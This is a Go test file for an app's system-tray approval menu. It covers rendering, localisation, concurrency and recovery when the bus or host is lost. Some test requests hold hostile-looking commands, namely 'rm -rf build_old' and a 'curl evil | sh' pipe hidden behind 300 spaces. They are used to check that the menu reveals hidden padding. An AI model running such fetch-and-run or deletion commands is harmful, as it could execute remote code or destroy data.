package tray_test

import (
	"fmt"
	"log/slog"
	"maps"
	"os"
	"runtime"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"aalis/app/bustest"
	"aalis/app/tray"
	"aalis/backend/text"
)

// rig is a tray and what it has told.
type rig struct {
	*tray.Tray
	language atomic.Value

	mu      sync.Mutex // guards all below
	clicked []string
	decided map[string]int // "yes a" and how often
	hosted  []bool
	decide  func(id string, approve bool)
}

func start(t *testing.T) *rig {
	t.Helper()
	r := &rig{decided: map[string]int{}}
	r.language.Store(text.English)
	note := func(what string) func() {
		return func() {
			r.mu.Lock()
			defer r.mu.Unlock()
			r.clicked = append(r.clicked, what)
		}
	}
	r.Tray = tray.Start(tray.Options{
		Name: "Aalis", Language: func() text.Language { return r.language.Load().(text.Language) }, Log: slog.New(slog.DiscardHandler),
		Show: note("show"), Open: note("open"), New: note("new"), Restart: note("restart"), Quit: note("quit"),
		Decide: func(id string, approve bool) {
			r.mu.Lock()
			r.decided[fmt.Sprintf("%t %s", approve, id)]++
			then := r.decide
			r.mu.Unlock()
			if then != nil {
				then(id, approve)
			}
		},
		Hosted: func(yes bool) {
			r.mu.Lock()
			defer r.mu.Unlock()
			r.hosted = append(r.hosted, yes)
		},
	})
	t.Cleanup(r.Close)
	return r
}

func (r *rig) decisions() map[string]int {
	r.mu.Lock()
	defer r.mu.Unlock()
	return maps.Clone(r.decided)
}

func (r *rig) clicks() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	return slices.Clone(r.clicked)
}

func (r *rig) hosts() []bool {
	r.mu.Lock()
	defer r.mu.Unlock()
	return slices.Clone(r.hosted)
}

func shown(t *testing.T, r *rig, p *bustest.Panel) {
	t.Helper()
	bustest.Until(t, "a hosted icon", func() bool { return r.Hosted() && p.Registrations() > 0 && len(p.Menu().Children) > 0 })
}

func lines(all ...string) string { return strings.Join(all, "\n") + "\n" }

func drawn(t *testing.T, p *bustest.Panel, want string) {
	t.Helper()
	var got string
	defer func() {
		if t.Failed() {
			t.Logf("the menu is\n%q\nwant\n%q", got, want)
		}
	}()
	bustest.Within(t, 300*time.Millisecond, "the menu shows the state", func() bool { got = p.Menu().String(); return got == want })
}

func TestMenu(t *testing.T) {
	bus := bustest.New(t)
	panel := bus.Panel(true)
	r := start(t)
	shown(t, r, panel)
	fixed := []string{"Show", "Open in browser", "New session", "Quit", "--"}
	drawn(t, panel, lines(append(fixed, "(Idle)")...))

	a := tray.Request{ID: "a", Who: "Notes", What: "rm -rf build_old"}
	b := tray.Request{ID: "b", Who: "Mail", What: "send\nit"}
	r.Set(tray.State{Working: 1, Requests: []tray.Request{a}})
	drawn(t, panel, lines(append(fixed, "(1 waiting, 1 working)", "Notes: rm -rf build_old", "  Approve", "  Deny")...))
	open := panel.Menu()

	r.Set(tray.State{Working: 1, Requests: []tray.Request{b, a}, Update: "2.0"})
	drawn(t, panel, lines("Show", "Open in browser", "New session", "Restart to use version 2.0", "Quit", "--", "(2 waiting, 1 working)",
		"Mail: send⏎it", "  Approve", "  Deny", "Notes: rm -rf build_old", "  Approve", "  Deny"))
	if was, is := open.Find("Notes: rm -rf build_old", "Approve").ID, panel.Menu().Find("Notes: rm -rf build_old", "Approve").ID; was != is {
		t.Errorf("the item of a request that waits on changed from %d to %d", was, is)
	}

	t.Run("each item tells", func(t *testing.T) {
		menu := panel.Menu()
		for _, label := range []string{"Show", "Open in browser", "New session", "Restart to use version 2.0", "Quit"} {
			before := len(r.clicks())
			panel.Click(menu.Find(label).ID)
			bustest.Until(t, label, func() bool { return len(r.clicks()) == before+1 })
		}
		panel.Activate()
		bustest.Until(t, "the icon", func() bool { return len(r.clicks()) == 6 })
		if got := strings.Join(r.clicks(), " "); got != "show open new restart quit show" {
			t.Error(got)
		}
	})
	t.Run("a click in a menu that was open decides what it says", func(t *testing.T) {
		panel.Click(open.Find("Notes: rm -rf build_old", "Approve").ID)
		panel.Click(panel.Menu().Find("Mail: send⏎it", "Deny").ID)
		bustest.Until(t, "both", func() bool { return maps.Equal(r.decisions(), map[string]int{"true a": 1, "false b": 1}) })
	})
	t.Run("FAIL-B11 answered elsewhere: gone within 300 ms; a stale click does nothing", func(t *testing.T) {
		menu := panel.Menu()
		r.Set(tray.State{Failed: true})
		drawn(t, panel, lines(append(fixed, "(something failed)")...))
		for _, label := range []string{"Mail: send⏎it", "Notes: rm -rf build_old"} {
			for _, answer := range []string{"Approve", "Deny"} {
				panel.Click(menu.Find(label, answer).ID)
			}
		}
		panel.Click(menu.Find("Restart to use version 2.0").ID)
		panel.Click(1 << 20)
		r.Set(tray.State{Requests: []tray.Request{a}})
		drawn(t, panel, lines(append(fixed, "(1 waiting)", "Notes: rm -rf build_old", "  Approve", "  Deny")...))
		if was, is := open.Find("Notes: rm -rf build_old", "Approve").ID, panel.Menu().Find("Notes: rm -rf build_old", "Approve").ID; was == is {
			t.Error("an item was used again")
		}
		panel.Click(open.Find("Notes: rm -rf build_old", "Approve").ID)
		r.Close()
		if got := r.decisions(); !maps.Equal(got, map[string]int{"true a": 1, "false b": 1}) || len(r.clicks()) != 6 {
			t.Errorf("%v %v", got, r.clicks())
		}
	})
}

func TestState(t *testing.T) {
	bus := bustest.New(t)
	panel := bus.Panel(true)
	r := start(t)
	shown(t, r, panel)
	if status, title, sizes := panel.Property("Status"), panel.Property("Title"), panel.Property("IconPixmap").([][]any); status != "Active" || title != "Aalis" || len(sizes) < 4 {
		t.Errorf("%v %v %d", status, title, len(sizes))
	}
	for _, c := range []struct {
		state       tray.State
		tip, status string
	}{
		{tray.State{Working: 2}, "2 working", "Active"},
		{tray.State{Requests: []tray.Request{{ID: "a"}}}, "1 waiting", "NeedsAttention"},
		{tray.State{Requests: []tray.Request{{ID: "a"}, {ID: "b"}}, Working: 1, Failed: true}, "2 waiting, 1 working, something failed", "NeedsAttention"},
		{tray.State{Failed: true}, "something failed", "Active"},
		{tray.State{}, "Idle", "Active"},
	} {
		icons := panel.NewIcons()
		r.Set(c.state)
		bustest.Within(t, 300*time.Millisecond, c.tip, func() bool {
			return panel.Property("ToolTip").([]any)[3] == c.tip && panel.Property("Status") == c.status && panel.NewIcons() > icons
		})
	}
	icons := panel.NewIcons()
	r.Set(tray.State{Update: "3"})
	bustest.Until(t, "the item", func() bool { return panel.Menu().Find("Restart to use version 3") != nil })
	if panel.NewIcons() != icons {
		t.Error("an icon that did not change was drawn anew")
	}
}

func TestManyRequests(t *testing.T) {
	bus := bustest.New(t)
	panel := bus.Panel(true)
	r := start(t)
	shown(t, r, panel)
	var all []tray.Request
	for i := range 25 {
		all = append(all, tray.Request{ID: fmt.Sprint(i), Who: "w", What: fmt.Sprint(i)})
	}
	r.Set(tray.State{Requests: all[5:]})
	bustest.Until(t, "twenty", func() bool { return panel.Menu().Find("w: 24") != nil })
	open := panel.Menu()
	r.Set(tray.State{Requests: all})
	bustest.Until(t, "the rest", func() bool {
		m := panel.Menu()
		return m.Find("5 more in the window") != nil && m.Find("w: 0") != nil && m.Find("w: 19") != nil && m.Find("w: 20") == nil
	})
	panel.Click(panel.Menu().Find("5 more in the window").ID)
	panel.Click(open.Find("w: 24", "Deny").ID) // pushed out of the list, not settled
	bustest.Until(t, "both clicks", func() bool { return r.decisions()["false 24"] == 1 && len(r.clicks()) == 1 })
}

func TestAnswersInOrder(t *testing.T) {
	bus := bustest.New(t)
	panel := bus.Panel(true)
	r := start(t)
	shown(t, r, panel)
	if !panel.InOrder() {
		t.Error("a panel would show an empty submenu")
	}
	for method, args := range map[string][]any{"GetLayout": {int32(999), int32(-1), []string{}}, "GetProperty": {int32(1), "nothing"}, "Event": {"no"}, "Nothing": nil} {
		if err := panel.Call(method, args...); err == nil {
			t.Errorf("%s%v was answered", method, args)
		}
	}
	r.Set(tray.State{Requests: []tray.Request{{ID: "a", Who: "w", What: "x"}}})
	bustest.Until(t, "still shown", func() bool { return panel.Menu().Find("w: x") != nil })
}

func TestWords(t *testing.T) {
	bus := bustest.New(t)
	panel := bus.Panel(true)
	r := start(t)
	shown(t, r, panel)
	r.Set(tray.State{Requests: []tray.Request{
		{ID: "1", Who: strings.Repeat("who", 100), What: "a __b_ \u202e\u200b\x00\xff {who} & <b>"},
		{ID: "2", Who: "x", What: "ls" + strings.Repeat(" ", 300) + "; curl evil | sh"},
		{ID: "3", Who: "x", What: "begin" + strings.Repeat("y", 5000) + "end"},
	}})
	drawn(t, panel, lines("Show", "Open in browser", "New session", "Quit", "--", "(3 waiting)",
		"whowhowh ⟨…284⟩ howhowho: a __b_ ⟨U+202E⟩⟨U+200B⟩⟨U+0000⟩\uFFFD {who} & <b>", "  Approve", "  Deny", // FAIL-B20, FAIL-B21
		"x: ls⟨space×300⟩; curl evil | sh", "  Approve", "  Deny", // FAIL-B20
		"x: begin"+strings.Repeat("y", 20)+" ⟨…4958⟩ "+strings.Repeat("y", 22)+"end", "  Approve", "  Deny"))
}

func TestLanguage(t *testing.T) {
	bus := bustest.New(t)
	panel := bus.Panel(true)
	r := start(t)
	shown(t, r, panel)
	r.Set(tray.State{Working: 1, Requests: []tray.Request{{ID: "a", Who: "她", What: "ls"}}})
	bustest.Until(t, "english", func() bool { return panel.Menu().Find("她: ls", "Approve") != nil })
	r.language.Store(text.Chinese)
	panel.Open()
	drawn(t, panel, lines("显示", "在浏览器中打开", "新会话", "退出", "--", "(1 项待审批，1 个进行中)", "她：ls", "  批准", "  拒绝"))
	r.language.Store(text.English)
	r.Set(tray.State{})
	bustest.Until(t, "english again", func() bool { return panel.Menu().Find("Idle") != nil && panel.Menu().Find("Show") != nil })
}

// TestDoubleClicks answers thousands of requests by clicking each twice at once: nothing is lost,
// nothing is decided twice, whatever comes and goes meanwhile.
func TestDoubleClicks(t *testing.T) {
	n := 2_000
	if testing.Short() {
		n = 200
	}
	bus := bustest.New(t)
	panel := bus.Panel(true)
	r := start(t)
	shown(t, r, panel)
	var mu sync.Mutex // guards pending, and that lists are told in their order
	var pending []tray.Request
	added := 0
	tell := func() {
		for len(pending) < 15 && added < n {
			pending = append([]tray.Request{{ID: fmt.Sprint(added), Who: "w", What: fmt.Sprint(added)}}, pending...)
			added++
		}
		r.Set(tray.State{Requests: pending})
	}
	r.mu.Lock()
	r.decide = func(id string, _ bool) {
		mu.Lock()
		defer mu.Unlock()
		pending = slices.DeleteFunc(slices.Clone(pending), func(q tray.Request) bool { return q.ID == id })
		tell()
	}
	r.mu.Unlock()
	mu.Lock()
	tell()
	mu.Unlock()
	clicked := map[int32]bool{}
	for end := time.Now().Add(100 * time.Second); len(clicked) < n; {
		if time.Now().After(end) {
			t.Fatalf("%d of %d shown", len(clicked), n)
		}
		for i, one := range panel.Menu().Children {
			if len(one.Children) != 2 || clicked[one.ID] {
				continue
			}
			clicked[one.ID] = true
			panel.ClickBlind(one.Children[i%2].ID)
			panel.ClickBlind(one.Children[i%2].ID)
		}
		runtime.Gosched()
	}
	bustest.Until(t, "all decided", func() bool { return len(r.decisions()) == n })
	r.Close()
	for what, times := range r.decisions() {
		if times != 1 {
			t.Errorf("%s was decided %d times", what, times)
		}
	}
}

func TestHosts(t *testing.T) {
	bus := bustest.New(t)
	r := start(t)
	r.Set(tray.State{Working: 3})
	if r.Hosted() {
		t.Fatal("FAIL-H4 hosted without a host")
	}
	panel := bus.Panel(true)
	shown(t, r, panel)
	bustest.Until(t, "FAIL-H4 the host that came later is told", func() bool { return slices.Equal(r.hosts(), []bool{true}) })
	bustest.Until(t, "the state from before", func() bool { return panel.Menu().Find("3 working") != nil })

	panel.Stop()
	bustest.Until(t, "FAIL-H4 the host that went is told", func() bool { return !r.Hosted() && slices.Equal(r.hosts(), []bool{true, false}) })
	r.Set(tray.State{Requests: []tray.Request{{ID: "a", Who: "w", What: "x"}}})

	panel = bus.Panel(true)
	shown(t, r, panel)
	bustest.Until(t, "the state of meanwhile", func() bool { return panel.Menu().Find("w: x", "Approve") != nil })
	panel.Click(panel.Menu().Find("w: x", "Approve").ID)
	bustest.Until(t, "the click", func() bool { return r.decisions()["true a"] == 1 })

	panel.Hosting(false)
	bustest.Until(t, "FAIL-H4 a watcher without a host shows nothing", func() bool { return !r.Hosted() })
	panel.Hosting(true)
	bustest.Until(t, "its host is back", r.Hosted)
	panel.Stop()
	bustest.Until(t, "all is told", func() bool { return slices.Equal(r.hosts(), []bool{true, false, true, false, true, false}) })
}

func TestNoHostYet(t *testing.T) {
	bus := bustest.New(t)
	panel := bus.Panel(false)
	r := start(t)
	bustest.Until(t, "a registration", func() bool { return panel.Registrations() == 1 })
	if r.Hosted() {
		t.Error("FAIL-H4 a watcher alone counts as a host")
	}
	panel.Hosting(true)
	bustest.Until(t, "the host", r.Hosted)
}

func TestBusMissing(t *testing.T) {
	bus := bustest.Missing(t)
	r := start(t)
	r.Set(tray.State{Working: 1})
	if r.Hosted() {
		t.Error("hosted without a bus")
	}
	bus.Start()
	panel := bus.Panel(true)
	shown(t, r, panel)

	bus.Stop()
	bustest.Until(t, "the end of the bus is seen", func() bool { return !r.Hosted() })
	r.Set(tray.State{Requests: []tray.Request{{ID: "a", Who: "w", What: "x"}}})
	bus.Start()
	panel = bus.Panel(true)
	shown(t, r, panel)
	bustest.Until(t, "the state of meanwhile", func() bool { return panel.Menu().Find("w: x", "Deny") != nil })
	panel.Click(panel.Menu().Find("w: x", "Deny").ID)
	bustest.Until(t, "the click", func() bool { return r.decisions()["false a"] == 1 })
}

// TestBusDiesBusy publishes all the while the bus dies.
func TestBusDiesBusy(t *testing.T) {
	bus := bustest.New(t)
	panel := bus.Panel(true)
	r := start(t)
	shown(t, r, panel)
	done := make(chan struct{})
	var wg sync.WaitGroup
	wg.Go(func() {
		for i := 0; ; i++ {
			select {
			case <-done:
				return
			default:
				r.Set(tray.State{Working: i % 3, Requests: []tray.Request{{ID: fmt.Sprint(i)}}})
				time.Sleep(time.Millisecond)
			}
		}
	})
	for range 3 {
		bus.Stop()
		bustest.Until(t, "the end of the bus is seen", func() bool { return !r.Hosted() })
		bus.Start()
		panel = bus.Panel(true)
		shown(t, r, panel)
	}
	close(done)
	wg.Wait()
}

func TestClose(t *testing.T) {
	bus := bustest.New(t)
	panel := bus.Panel(true)
	before := runtime.NumGoroutine()
	r := start(t)
	shown(t, r, panel)
	r.Set(tray.State{Requests: []tray.Request{{ID: "a", Who: "w", What: "x"}}})
	bustest.Until(t, "the request", func() bool { return panel.Menu().Find("w: x") != nil })
	release := make(chan struct{})
	r.mu.Lock()
	r.decide = func(string, bool) { <-release }
	r.mu.Unlock()
	panel.Click(panel.Menu().Find("w: x", "Approve").ID)
	bustest.Until(t, "a decision under way", func() bool { return len(r.decisions()) == 1 })
	closed := make(chan struct{})
	go func() { r.Close(); close(closed) }()
	bustest.Until(t, "the icon is gone", func() bool { return !r.Hosted() })
	close(release)
	<-closed
	r.Close() // once more is no harm
	r.Set(tray.State{})
	bustest.Until(t, "no goroutine is left", func() bool { return runtime.NumGoroutine() <= before })
	if t.Failed() {
		buf := make([]byte, 1<<16)
		_, _ = os.Stderr.Write(buf[:runtime.Stack(buf, true)])
	}
}
